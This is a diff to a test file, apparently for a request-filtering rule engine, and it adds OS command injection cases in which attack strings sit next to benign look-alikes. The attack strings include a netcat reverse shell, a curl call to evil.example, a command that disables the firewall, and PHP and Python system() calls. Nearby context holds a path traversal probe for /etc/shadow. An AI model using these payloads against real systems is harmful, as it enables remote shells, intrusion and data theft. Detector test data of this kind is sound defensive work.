@@ -207,6 +207,20 @@ const CASES: RuleCase[] = [
       h('x-note', 'Run `npm install` then `npm test`'), h('x-note', 'Ping me when the build is done, and echo the result'), h('x-sort', 'id')],
   },
   {
+    id: 9510120, name: 'OS command injection: every command position (separator, `…`, $(…), start of value)',
+    attacks: [h('x-a', 'x;/usr/bin/id\\n'), h('x-a', 'a&&cat${IFS}/etc/hosts'), h('x-a', '$(ls/tmp)'), h('x-a', '`id`'), h('x-a', 'x|nc -e /bin/sh 10.0.0.1 4444'),
+      h('x-a', '& netsh firewall set opmode disable'), h('x-a', 'x\nwhoami'), q(b64('| python3 -c "import os"'))],
+    benign: [h('x-a', 'idle'), h('x-a', 'names; ids; categories'), h('x-a', 'cats & dogs'), h('x-a', 'the shell (sh) is fine'), h('x-a', 'echo chamber'),
+      h('x-a', 'A|B|C'), h('x-a', 'sleeping bag')],
+  },
+  {
+    id: 9510121, name: 'OS command injection: code calling a shell, Windows commands, probes',
+    attacks: [q("; system('curl https://evil.example/x');"), q("| system('sleep 5');"), q("exec('pwd')"), q("${@print(system($_SERVER['HTTP_USER_AGENT']))}"),
+      q("';phpinfo();//"), q('os.system("id")'), q('& net view'), q('dir C:\\'), q('type C:\\boot.ini'), q('sleep 1'), q('which nc'), h('x-probe', 'which python3')],
+    benign: [q('db.exec("SELECT 1")'), q('$this->exec($query)'), q('the system (as designed) works'), q('net income grew'), q('a net view of the city'),
+      q('which one is better?'), q('which nc is closest'), q('sleep 8 hours a night'), q('C:\\Users\\Public\\notes.txt', 'file'), q('type C: drive', 'q'), q('Sleep well')],
+  },
+  {
     id: 9510150, name: 'path traversal in custom headers / decoded values',
     attacks: [h('x-file', '../../../etc/shadow'), q(b64('..\\..\\windows\\win.ini')), h('x-template', '....//....//etc')],
     benign: [h('x-file', 'reports/2024/q1.pdf'), q(b64('wait... what?')), h('x-template', 'v1.2.3')],
